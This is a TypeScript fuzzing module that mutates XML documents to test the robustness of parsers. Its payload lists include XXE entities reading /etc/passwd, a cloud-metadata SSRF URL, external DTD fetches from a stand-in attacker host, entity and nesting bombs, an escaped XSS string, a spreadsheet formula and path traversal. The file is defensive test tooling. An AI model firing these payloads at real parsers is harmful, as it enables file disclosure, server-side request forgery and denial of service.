import type { Mutator } from './bytes.js';
import type { Rng } from './rng.js';
import { matchesOf, textMutator, utf8AsLatin1 } from './text.js';

/** Document type declarations an attacker would send: XXE (file, URL, parameter entities) and expansion bombs. */
export const HOSTILE_DOCTYPES: readonly string[] = [
  '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
  '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>',
  '<!DOCTYPE r SYSTEM "file:///dev/random">',
  '<!DOCTYPE r PUBLIC "-//X//Y" "http://attacker.invalid/y.dtd">',
  '<!doctype r [<!entity a "aaaaaaaaaa">]>',
  '<!DOCTYPE r [<!ENTITY a "&#x26;#x26;">]>',
];

/** Text values that break naive readers of amounts, dates, codes and references. */
export const HOSTILE_VALUES: readonly string[] = [
  '',
  ' ',
  '-0',
  '-1',
  '0.001',
  '1e308',
  '-1e-308',
  'NaN',
  'Infinity',
  '0x10',
  '99999999999999999999999999999999.99',
  '1,234.56',
  '1.234,56',
  '2025-02-30',
  '2025-13-01',
  '0000-00-00',
  '9999-12-31T23:59:60Z',
  '+++000/0000/00000+++',
  'RF00',
  '&amp;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '=HYPERLINK("http://x")',
  '\u202Eevil',
  '\u{1F4B6}',
  '../../etc/passwd',
  '%00',
];

/**
 * Inserts a hostile DOCTYPE after the XML declaration (or at the start). Every parser of
 * untrusted XML must refuse it before any entity is read.
 *
 * @example
 * ```ts
 * doctypeInjection.apply(xmlBytes, new Rng(1), xmlBytes);
 * ```
 */
export const doctypeInjection: Mutator = textMutator('doctypeInjection', (text, rng) => {
  const decl = /^\s*(?:\xEF\xBB\xBF)?<\?xml[^>]*\?>/.exec(text);
  const at = decl ? decl[0].length : rng.chance(0.5) ? 0 : rng.int(text.length + 1);
  return text.slice(0, at) + rng.pick(HOSTILE_DOCTYPES) + text.slice(at);
});

/** Puts an entity or character reference into a text node: undeclared, out of range, unterminated, NUL. @example entityReference.apply(xml, rng, xml) */
export const entityReference: Mutator = textMutator('entityReference', (text, rng) => {
  const spots = matchesOf(text, />[^<]/g);
  const spot = spots.length > 0 ? rng.pick(spots).index + 1 : rng.int(text.length + 1);
  const ref = rng.pick(['&xxe;', '&lol9;', '&#0;', '&#x0;', '&#x110000;', '&#xD800;', '&#99999999999;', '&amp', '&;', '&#;', '&#x;', '&nbsp;', '&%p;']);
  return text.slice(0, spot) + ref + text.slice(spot);
});

/** Wraps a random point in 10–5,000 nested elements (a nesting bomb). @example nestingBomb.apply(xml, rng, xml) */
export const nestingBomb: Mutator = textMutator('nestingBomb', (text, rng) => {
  const depth = rng.chance(0.8) ? rng.between(10, 200) : rng.between(200, 5000);
  const spots = matchesOf(text, />\s*</g);
  const at = spots.length > 0 ? rng.pick(spots).index + 1 : rng.int(text.length + 1);
  const closed = rng.chance(0.8);
  return text.slice(0, at) + '<a>'.repeat(depth) + (closed ? '</a>'.repeat(depth) : '') + text.slice(at);
});

/** Adds an attribute with a value of up to 256 KiB to a start tag. @example hugeAttribute.apply(xml, rng, xml) */
export const hugeAttribute: Mutator = textMutator('hugeAttribute', (text, rng) => {
  const tags = matchesOf(text, /<[A-Za-z][\w:.-]*/g);
  const length = rng.chance(0.9) ? rng.between(1, 4096) : rng.between(4096, 256 * 1024);
  const quote = rng.chance(0.9) ? '"' : "'";
  const attr = ` x${rng.int(100)}=${quote}${rng.pick(['A', '&amp;', '<', '"', ' '])!.repeat(Math.ceil(length / 5))}${quote}`;
  if (tags.length === 0) return `<r${attr}/>${text}`;
  const tag = rng.pick(tags);
  const end = tag.index + tag.text.length;
  return text.slice(0, end) + attr + text.slice(end);
});

/** Duplicates one element (its start tag up to the matching end tag of that name). @example duplicateElement.apply(xml, rng, xml) */
export const duplicateElement: Mutator = textMutator('duplicateElement', (text, rng) => {
  const el = elementAt(text, rng);
  if (!el) return text;
  const copies = rng.chance(0.9) ? 1 : rng.between(2, 50);
  return text.slice(0, el.end) + text.slice(el.start, el.end).repeat(copies) + text.slice(el.end);
});

/** Removes one element. @example removeElement.apply(xml, rng, xml) */
export const removeElement: Mutator = textMutator('removeElement', (text, rng) => {
  const el = elementAt(text, rng);
  return el ? text.slice(0, el.start) + text.slice(el.end) : text;
});

/** Replaces the text of a leaf element with a hostile value. @example replaceText.apply(xml, rng, xml) */
export const replaceText: Mutator = textMutator('replaceText', (text, rng) => {
  const leaves = matchesOf(text, />([^<>]+)</g);
  if (leaves.length === 0) return text;
  const leaf = rng.pick(leaves);
  const value = utf8AsLatin1(rng.pick(HOSTILE_VALUES).replace(/&(?!amp;|lt;|gt;)/g, rng.chance(0.5) ? '&amp;' : '&'));
  return `${text.slice(0, leaf.index + 1)}${value}${text.slice(leaf.index + leaf.text.length - 1)}`;
});

/** Renames a tag: only the start tag (malformed) or start and end (well-formed but unknown). @example renameTag.apply(xml, rng, xml) */
export const renameTag: Mutator = textMutator('renameTag', (text, rng) => {
  const el = elementAt(text, rng);
  if (!el) return text;
  const fresh = rng.pick(['X', 'cbc:X', 'Invoice', 'Document', 'Ntry', 'Amt', 'ns9:Stmt']);
  const inner = text.slice(el.start, el.end);
  const renamed = rng.chance(0.5) ? inner.replace(el.name, fresh) : inner.replace(el.name, fresh).replace(new RegExp(`</${escape(el.name)}>$`), `</${fresh}>`);
  return text.slice(0, el.start) + renamed + text.slice(el.end);
});

/** Inserts a comment, CDATA section, processing instruction or stray markup between elements. @example markupInsertion.apply(xml, rng, xml) */
export const markupInsertion: Mutator = textMutator('markupInsertion', (text, rng) => {
  const spots = matchesOf(text, />/g);
  const at = spots.length > 0 ? rng.pick(spots).index + 1 : rng.int(text.length + 1);
  const snippet = rng.pick(['<!-- c -->', '<!--', '<![CDATA[<x>&]]>', '<![CDATA[', '<?pi x?>', '<?xml version="1.0"?>', ']]>', '</', '<a b="1" b="2"/>', '<a xmlns:p="u"><p:b/></a>', '\u0000']);
  return text.slice(0, at) + snippet + text.slice(at);
});

/** Changes the value of a namespace declaration (another version, another message, empty). @example namespaceChange.apply(xml, rng, xml) */
export const namespaceChange: Mutator = textMutator('namespaceChange', (text, rng) => {
  const decls = matchesOf(text, /xmlns(?::[\w.-]+)?="([^"]*)"/g);
  if (decls.length === 0) return text;
  const decl = rng.pick(decls);
  const value = decl.groups[0] ?? '';
  const next = rng.pick(['', 'urn:x', value.replace(/\d\d$/, '99'), value.replace(/053/, '052'), value.replace(/Invoice/, 'Order'), `${value} `]);
  return text.slice(0, decl.index) + decl.text.replace(value, next) + text.slice(decl.index + decl.text.length);
});

/** Every XML-aware operator. */
export const XML_MUTATORS: readonly Mutator[] = [
  doctypeInjection,
  entityReference,
  nestingBomb,
  hugeAttribute,
  duplicateElement,
  removeElement,
  replaceText,
  renameTag,
  markupInsertion,
  namespaceChange,
];

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** A random element with a matching end tag: its start, its end (after the end tag) and its name. */
function elementAt(text: string, rng: Rng): { start: number; end: number; name: string } | undefined {
  const starts = matchesOf(text, /<([A-Za-z][\w:.-]*)[\s>]/g);
  for (let tries = 0; tries < 8 && starts.length > 0; tries++) {
    const s = rng.pick(starts);
    const name = s.groups[0] ?? '';
    const close = text.indexOf(`</${name}>`, s.index);
    if (close !== -1) return { start: s.index, end: close + name.length + 3, name };
  }
  return undefined;
}
